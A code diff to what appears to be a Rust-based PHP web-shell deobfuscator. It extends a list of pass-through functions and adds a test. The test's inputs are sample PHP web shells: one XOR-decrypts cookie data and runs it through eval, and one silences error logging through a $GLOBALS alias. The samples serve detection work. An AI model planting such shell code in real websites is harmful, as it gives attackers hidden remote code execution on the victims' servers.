@@ -498,6 +498,12 @@ fn transparent(name: &[u8]) -> bool {
                 | b"json_decode"
                 | b"unserialize"
                 | b"strtr"
+                // byte by byte: the ciphers of encrypted-channel shells (`chr(ord($d[$i]) ^ …)`)
+                | b"chr"
+                | b"ord"
+                | b"sprintf"
+                | b"strval"
+                | b"str_pad"
                 | b"sprintf"
                 | b"explode"
                 | b"current"
@@ -2407,6 +2413,17 @@ mod tests {
         assert!(
             !text("<?php $id = intval($_GET['id']); $f = 'x'; echo $f($id);").contains("request")
         );
+    }
+
+    #[test]
+    fn request_data_stays_request_data_through_a_byte_cipher() {
+        // An encrypted-channel shell: a cookie, decoded, XORed byte by byte in the file's
+        // own function, unserialized, run.
+        let t = text("<?php function x($a, $k) { $o = ''; for ($i = 0; $i < strlen($a); $i++) { $o .= chr(ord($a[$i]) ^ ord($k[$i % 4])); } return $o; } foreach ($_COOKIE as $k => $v) { $d = $v; } $m = @unserialize(x(base64_decode($d), 'abcd')); eval($m['d']);");
+        assert!(t.contains("eval($_POST['request']"), "{t}");
+        // the silencing `@` does not hide what a `$GLOBALS` alias calls
+        let t = text("<?php $g = $GLOBALS; $GLOBALS['t'] = 'ini_set'; @$g['t']('log_errors', 0);");
+        assert!(t.contains("@ini_set('log_errors'"), "{t}");
     }
 
     #[test]
